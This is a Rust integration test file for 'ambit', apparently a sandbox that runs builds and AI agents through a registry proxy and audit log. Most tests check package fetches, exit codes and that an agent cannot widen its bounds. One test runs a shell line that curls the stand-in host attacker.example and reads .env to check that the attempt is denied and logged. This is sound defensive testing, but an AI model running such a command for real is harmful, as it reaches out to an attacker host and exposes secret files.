//! `ambit run` from outside: real builds with their real registries through the proxy, and what stands in the record.

#![cfg(target_os = "linux")]
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::fs;
use std::net::ToSocketAddrs as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use tempfile::TempDir;

struct World {
    dir: TempDir,
}

impl World {
    fn new() -> Self {
        let dir = tempfile::tempdir().unwrap();
        fs::create_dir_all(dir.path().join("project/.git")).unwrap();
        fs::write(dir.path().join("project/.git/HEAD"), "ref: refs/heads/main\n").unwrap();
        Self { dir }
    }

    fn project(&self) -> PathBuf {
        self.dir.path().join("project")
    }

    /// `ambit` with the state of this test; the home is the person's own, for its toolchains.
    fn ambit(&self, arguments: &[&str]) -> Output {
        let mut ambit = Command::new(env!("CARGO_BIN_EXE_ambit"));
        ambit.env_clear().current_dir(self.project()).args(arguments);
        for name in ["HOME", "PATH", "PIP_CERT", "PIP_INDEX_URL", "SSL_CERT_FILE", "npm_config_registry"] {
            if let Some(value) = std::env::var_os(name) {
                ambit.env(name, value);
            }
        }
        ambit.env("XDG_STATE_HOME", self.dir.path().join("state"));
        ambit.env("XDG_CONFIG_HOME", self.dir.path().join("config"));
        ambit.env("AMBIT_ADMIN_DIR", self.dir.path().join("admin"));
        ambit.output().unwrap()
    }

    /// Runs a shell's text in bounds; where registries lie in a reserved network, as on some machines for tests, that
    /// network is let in.
    fn sh(&self, text: &str) -> Output {
        let network = registry_network();
        let mut arguments = vec!["run"];
        if let Some(network) = &network {
            arguments.extend(["--allow-network", network]);
        }
        arguments.extend(["--", "/bin/sh", "-c", text]);
        self.ambit(&arguments)
    }
}

fn text(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

/// The address of the registry of cargo, if cargo has used one here and it can be found.
fn registry_network() -> Option<String> {
    let index = Path::new(&std::env::var("HOME").ok()?).join(".cargo/registry/index");
    let name = fs::read_dir(index).ok()?.flatten().next()?.file_name().into_string().ok()?;
    let (host, _) = name.rsplit_once('-')?;
    (host, 443).to_socket_addrs().ok()?.next().map(|a| a.ip().to_string())
}

/// Whether a thing is to be had here outside of bounds; a test that lacks it says so and ends.
fn have(what: &str, command: &[&str]) -> bool {
    let (program, arguments) = command.split_first().unwrap();
    let dir = tempfile::tempdir().unwrap();
    let got =
        Command::new(program).args(arguments).current_dir(&dir).output().is_ok_and(|o| o.status.success());
    if !got {
        let _ = std::io::Write::write_all(
            &mut std::io::stderr(),
            format!("NOT TESTED: no {what} here\n").as_bytes(),
        );
    }
    got
}

#[test]
fn pip_fetches_through_the_proxy() {
    if !have("Python registry", &["pip", "download", "--no-deps", "-q", "six"]) {
        return;
    }
    let world = World::new();
    let done = world.sh("pip download --no-deps --no-cache-dir -q -d . six && ls");
    assert!(done.status.success() && text(&done).contains("six-"), "{}", text(&done));
    let log = text(&world.ambit(&["log", "--json", "--limit", "0"]));
    assert!(log.contains("contain.connection") && log.contains("bundle/registry:pip"), "{log}");
}

#[test]
fn npm_installs_and_runs_through_the_proxy() {
    if !have("JavaScript registry", &["npm", "view", "left-pad", "version"]) {
        return;
    }
    let world = World::new();
    let done = world.sh("npm init -y >/dev/null && npm install -s left-pad && node -e 'console.log(require(\"left-pad\")(1,4,0))'");
    assert!(done.status.success() && text(&done).contains("0001"), "{}", text(&done));
}

#[test]
fn cargo_fetches_and_builds_through_the_proxy() {
    if !have("Rust registry", &["cargo", "info", "-q", "either"]) {
        return;
    }
    let world = World::new();
    // A version that no test machine has in its cache.
    let done = world
        .sh("cargo init -q --name real . && cargo add -q either@=1.8.0 && echo 'fn main(){println!(\"{}\", \
         either::Left::<u8,u8>(7).into_inner())}' > src/main.rs && cargo run -q");
    assert!(done.status.success() && text(&done).contains('7'), "{}", text(&done));
}

#[test]
fn what_happens_is_in_the_record() {
    let world = World::new();
    let done = world.sh("curl -sS -m 5 http://attacker.example/; cat .env 2>/dev/null; exit 5");
    assert_eq!(done.status.code(), Some(5), "{}", text(&done));
    let log = text(&world.ambit(&["log", "--json", "--limit", "0"]));
    for what in
        ["contain.start", "contain.exec", "contain.denied", "attacker.example", "contain.end", "\"status\":5"]
    {
        assert!(log.contains(what), "{what} in {log}");
    }
    assert!(world.ambit(&["verify"]).status.success());
}

#[test]
fn the_status_tells_what_went_wrong() {
    let world = World::new();
    assert_eq!(world.ambit(&["run", "--", "no-such-program"]).status.code(), Some(127));
    let done = world.ambit(&["run", "--project", "/", "--", "/bin/true"]);
    assert!(!done.status.success() && text(&done).contains("nothing could be withheld"), "{}", text(&done));
    assert_eq!(world.ambit(&["run", "--tier", "B", "--", "/bin/sh", "-c", "exit 9"]).status.code(), Some(9));
}

#[test]
fn an_agent_cannot_widen_its_bounds() {
    let world = World::new();
    for widened in [
        &["--allow-host", "example.com"][..],
        &["--write", "/tmp"],
        &["--read", "/"],
        &["--allow-network", "10.0.0.0/8"],
        &["--env", "GITHUB_TOKEN"],
        &["--profile", "agent"],
    ] {
        let mut ambit = Command::new(env!("CARGO_BIN_EXE_ambit"));
        ambit.env_clear().current_dir(world.project()).env("HOME", world.dir.path()).env("CLAUDECODE", "1");
        let done = ambit.arg("run").args(widened).args(["--", "/bin/true"]).output().unwrap();
        assert!(
            !done.status.success() && text(&done).contains("cannot widen"),
            "{widened:?}: {}",
            text(&done)
        );
    }
}
